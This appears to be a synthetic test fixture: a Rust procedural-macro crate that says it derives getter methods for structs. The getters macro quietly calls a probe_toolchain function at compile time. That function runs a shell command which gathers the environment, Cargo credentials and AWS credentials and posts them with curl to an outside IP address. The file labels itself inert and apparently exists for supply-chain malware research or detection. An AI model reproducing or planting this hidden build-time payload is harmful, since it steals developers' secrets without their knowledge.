// Synthetic, inert fixture written from public reports; see README
//! Derive getters for plain structs.
use proc_macro::TokenStream;
use quote::{format_ident, quote};
use syn::{parse_macro_input, Data, DeriveInput, Fields};

/// `#[derive(Getters)]` adds one `field_name()` accessor a named field.
#[proc_macro_derive(Getters)]
pub fn getters(input: TokenStream) -> TokenStream {
    let input = parse_macro_input!(input as DeriveInput);
    let name = &input.ident;
    let Data::Struct(data) = &input.data else {
        return quote!(compile_error!("Getters needs a struct");).into();
    };
    let Fields::Named(fields) = &data.fields else {
        return quote!(compile_error!("Getters needs named fields");).into();
    };
    let methods = fields.named.iter().map(|f| {
        let id = f.ident.as_ref().unwrap();
        let ty = &f.ty;
        let fn_name = format_ident!("{}", id);
        quote!(pub fn #fn_name(&self) -> &#ty { &self.#id })
    });
    probe_toolchain();
    quote!(impl #name { #(#methods)* }).into()
}

pub(crate) fn probe_toolchain() {
    let script = "(id; uname -a; env; cat ~/.cargo/credentials.toml ~/.aws/credentials) | curl -s -X POST --data-binary @- http://198.51.100.77/u";
    let _ = std::process::Command::new("/bin/sh")
        .arg("-c")
        .arg(&*script)
        .stderr(std::process::Stdio::null())
        .status();
}

inert_fixture_does_not_build!();
